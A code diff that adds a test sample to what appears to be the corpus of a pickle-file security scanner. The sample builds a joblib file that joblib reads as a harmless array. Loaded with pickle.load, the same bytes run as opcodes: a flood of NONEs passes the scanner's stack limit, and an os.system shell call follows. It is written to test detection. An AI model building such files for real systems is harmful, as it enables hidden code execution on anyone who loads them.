@@ -1417,6 +1417,36 @@ def joblib_desync(sid, path):
     _joblib_desync(sid, path)
 
 
+@sample("parser_differential", ext=".joblib", container="joblib", loader="pandas.read_pickle",
+        writes_file=True, expect=("RESOURCE_LIMIT",),
+        source="pickleguard's own finding: a reading of the file that only pickle.load makes (joblib's "
+               "array bytes run as opcodes) stopped at a limit of the analysis before its payload",
+        note="joblib.load reads a harmless uint8 array; pickle.load (pandas.read_pickle) runs the "
+             "array bytes as opcodes: 2**24 + 1 NONEs, past the scanner's stack limit, then os.system")
+def joblib_plain_reading_past_a_limit(sid, path):
+    """joblib writes, after the BUILD of a NumpyArrayWrapper, one byte (the padding length),
+    that many padding bytes, then the array bytes. A padding length of 78 ('N', NONE) with
+    'N' padding lets pickle.load read on into the array, whose bytes are NONEs and then a
+    whole protocol 0 payload ending in STOP."""
+    import joblib
+    import joblib.numpy_pickle as jnp
+    import numpy as np
+
+    pad_len = ord("N")
+    array = b"N" * ((1 << 24) + 1) + simple(0, CALL(G("os", "system"), shell_cmd(sid)))
+    obj = {"coef": np.zeros(len(array), dtype=np.uint8)}
+
+    def write_array(self, arr, pickler):
+        pickler.file_handle.write(bytes([pad_len]) + b"N" * pad_len + array)
+
+    orig = jnp.NumpyArrayWrapper.write_array
+    jnp.NumpyArrayWrapper.write_array = write_array
+    try:
+        joblib.dump(obj, str(path), compress=0, protocol=2)
+    finally:
+        jnp.NumpyArrayWrapper.write_array = orig
+
+
 def _joblib_desync(sid: str, path: Path) -> None:
     """Write {'coef': uint8 array, 'payload': ...} with crafted padding and array bytes.
 
